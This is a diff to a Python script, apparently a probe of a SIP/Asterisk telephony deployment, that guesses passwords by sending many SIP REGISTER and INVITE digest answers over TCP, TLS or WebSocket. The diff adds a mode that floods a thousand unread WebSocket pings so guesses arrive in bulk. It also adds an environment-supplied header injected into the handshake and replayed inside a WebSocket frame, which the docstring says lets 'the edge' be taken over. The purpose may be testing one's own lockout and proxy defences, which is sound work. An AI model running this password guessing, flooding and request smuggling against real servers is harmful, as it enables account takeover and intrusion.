@@ -1,11 +1,16 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Somebody who tries passwords: a program of the standard library alone, run in one of the telephones' containers.
 
-``python3 -c <this> [blind-|patient-][tls:|wss:]SERVER COUNT USER...`` sends COUNT guesses, REGISTER and INVITE in turn,
-each for the next user, and prints what came back as JSON. It waits for each answer until there are none any more; then
-it goes on without waiting, or, inside of a connection that is deaf, gives up. A blind one asks for one challenge,
-answers it with all its guesses at once, and listens then. A patient one waits for answers as a telephone does. Of a
-``USER:PASSWORD`` it does not guess the password.
+``python3 -c <this> [WAY-][tls:|wss:]SERVER COUNT USER...`` sends COUNT guesses, REGISTER and INVITE in turn, each for
+the next user, and prints what came back as JSON. It waits for each answer until there are none any more; then it goes
+on without waiting, or, inside of a connection that is deaf, gives up.
+
+The WAY ``blind`` asks for one challenge, answers it with all its guesses at once, and listens then. ``full`` asks
+before for a thousand answers to pings (RFC 6455) and does not read them, so that what comes later is not sent one by
+one. ``patient`` waits for answers as a telephone does.
+
+Of a ``USER:PASSWORD`` it does not guess the password. In a WebSocket it says ``CLAIM``, of the environment, where the
+edge might take it over.
 """
 
 from __future__ import annotations
@@ -13,6 +18,7 @@ from __future__ import annotations
 import base64
 import hashlib
 import json
+import os
 import re
 import socket
 import ssl
@@ -26,6 +32,7 @@ PATIENCE = 1.0
 BLIND_PATIENCE = 5
 DEAF_AFTER = 3
 PAUSE = 0.0005
+PINGS = 1000
 
 
 def md5(text: str) -> str:
@@ -48,11 +55,32 @@ class WebSocket:
         self._tls = encrypted(server, 443)
         key = base64.b64encode(b"sixteen bytes ok").decode()
         lines = ["GET /api/asterisk/ws HTTP/1.1", f"Host: {server}", "Upgrade: websocket", "Connection: Upgrade"]
-        lines += [f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Protocol: sip", "", ""]
-        self._tls.sendall("\r\n".join(lines).encode())
+        lines += [f"Sec-WebSocket-Key: {key}", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Protocol: sip"]
+        claim = os.environ.get("CLAIM", "")
+        lines[1:1] = [claim] if claim else []
+        self._tls.sendall("\r\n".join([*lines, "", ""]).encode())
+        self._rest = b""
         head = self._tls.recv(4096)
         if b" 101 " not in head:
             raise OSError(head[:40])
+        if claim:
+            self._repeats(f"GET /ws HTTP/1.1\r\n{claim}\r\n\r\n".encode())
+
+    def _repeats(self, head: bytes) -> None:
+        """As a message whose text begins a segment."""
+        time.sleep(0.2)
+        self._tls.sendall(self._frame(1, len(head)))
+        time.sleep(0.2)
+        self._tls.sendall(head)
+
+    @staticmethod
+    def _frame(opcode: int, size: int) -> bytes:
+        """What is before the data, which the key of zeros does not change."""
+        length = bytes([0x80 | size]) if size < 126 else bytes([0x80 | 126]) + size.to_bytes(2, "big")
+        return bytes([0x80 | opcode]) + length + bytes(4)
+
+    def ping(self) -> None:
+        self._tls.sendall(self._frame(9, 125) + bytes(125))
 
     def settimeout(self, seconds: float) -> None:
         self._tls.settimeout(seconds)
@@ -62,13 +90,30 @@ class WebSocket:
         return name
 
     def send(self, data: bytes) -> None:
-        self._tls.sendall(b"\x81" + bytes([0x80 | 126]) + len(data).to_bytes(2, "big") + bytes(4) + data)
+        self._tls.sendall(self._frame(1, len(data)) + data)
 
     def recv(self, size: int) -> bytes:
-        frame = self._tls.recv(size)
-        if not frame or frame[0] & 15 == 8:
+        """The next message, however many came at once."""
+        while (found := self._message()) is None:
+            data = self._tls.recv(size)
+            if not data:
+                raise OSError("closed")
+            self._rest += data
+        return found
+
+    def _message(self) -> bytes | None:
+        if len(self._rest) < 4:
+            return None
+        opcode, size = self._rest[0] & 15, self._rest[1] & 127
+        begin = 2
+        if size == 126:
+            begin, size = 4, int.from_bytes(self._rest[2:4], "big")
+        if opcode == 8:
             raise OSError("closed")
-        return frame[4 if frame[1] & 127 == 126 else 2 :]
+        if len(self._rest) < begin + size:
+            return None
+        message, self._rest = self._rest[begin : begin + size], self._rest[begin + size :]
+        return message
 
 
 class Guesser:
@@ -144,7 +189,8 @@ class Guesser:
         """All answers to so many wrong passwords in one go."""
         self.request("REGISTER", user)
         first = self.answer()
-        assert first is not None
+        if first is None:
+            return []
         listening = threading.Thread(target=self._listen, daemon=True)
         listening.start()
         for _ in range(count):
@@ -152,6 +198,17 @@ class Guesser:
                 break
         listening.join()
         return [first, *((text, 0.0) for text in re.findall(r"SIP/2\.0 \d{3}", "".join(self._heard)))]
+
+    def is_full(self) -> None:
+        try:
+            for _ in range(PINGS):
+                self._socket.ping()
+        except OSError:  # cut off already
+            pass
+
+    def hears_more(self) -> bool:
+        self._socket.settimeout(PATIENCE)
+        return self.answer() is not None
 
     def _listen(self) -> None:
         """Until nothing came for long enough to be sure."""
@@ -173,9 +230,14 @@ class Guesser:
 
 def main(server: str, count: int, users: list[str]) -> dict[str, Any]:
     way, _, server = server.rpartition("-")
-    guesser = Guesser(server, 20 if way == "patient" else PATIENCE)
     answers: list[dict[str, Any]] = []
-    if way == "blind":
+    try:
+        guesser = Guesser(server, 20 if way == "patient" else PATIENCE)
+    except OSError as error:
+        return {"answers": [], "heard_last": False, "refused": str(error)}
+    if way == "full":
+        guesser.is_full()
+    if way in ("blind", "full"):
         answers = [{"text": text} for text, _ in guesser.guess_blindly(count, users[0])]
         return {"answers": answers, "heard_last": False}
     silent = 0
@@ -191,7 +253,8 @@ def main(server: str, count: int, users: list[str]) -> dict[str, Any]:
         came = guesser.guess(method, user)
         silent = 0 if came else silent + 1
         answers += [{"method": method, "user": user, "text": text, "seconds": seconds} for text, seconds in came]
-    return {"answers": answers, "seconds": time.monotonic() - begun, "heard_last": guesser.answer() is not None}
+    seconds = time.monotonic() - begun
+    return {"answers": answers, "seconds": seconds, "heard_last": guesser.hears_more()}
 
 
 if __name__ == "__main__":
